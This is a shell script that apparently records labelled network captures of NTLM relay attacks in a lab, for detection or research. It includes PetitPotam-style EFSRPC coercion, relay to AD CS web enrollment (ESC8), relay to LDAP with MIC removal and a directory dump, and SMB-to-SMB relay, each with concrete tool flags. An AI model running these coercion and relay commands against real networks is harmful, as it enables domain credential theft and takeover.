# Relays and what follows them: one function records one capture.

scenario_relay_smb_http_adcs() {
  callback_with libsmbclient
  record relay_smb_http_adcs
  relay -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine --no-http-server
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  sleep 4
  truth "${COERCED_HERE[@]}" target=$CA expect=coercion:efsr expect=relay:smb-http expect=adcs-enrollment \
    tools="$COERCER_CALL" \
    notes="The whole chain known as ESC8: sealed coercion, the victim's SMB logon, the same NTLM messages to /certsrv over HTTP, a certificate request and the certificate on the relayed connection."
}

scenario_relay_smb_ldap() {
  callback_with impacket
  record relay_smb_ldap
  relay -t "ldap://$DC" --no-http-server --no-acl --remove-mic
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 5
  truth "${COERCED_HERE[@]}" target=$DC expect=coercion:efsr expect=relay:smb-ldap tools="$IMPACKET_CALL" \
    notes="Sicily bind, success, then a dump of the directory over the relayed session. The victim's client is impacket, which sends no MIC; the proof is the same on both legs although the flags differ."
}

scenario_relay_smb_smb() {
  callback_with libsmbclient
  record relay_smb_smb
  relay -t "smb://$FILES" --no-http-server
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 3
  truth "${COERCED_HERE[@]}" target=$FILES expect=coercion:efsr expect=relay:smb-smb tools="$IMPACKET_CALL" \
    notes="The target is a real Samba member that does not require signing; it asks the domain controller about the logon over its sealed NETLOGON channel."
}
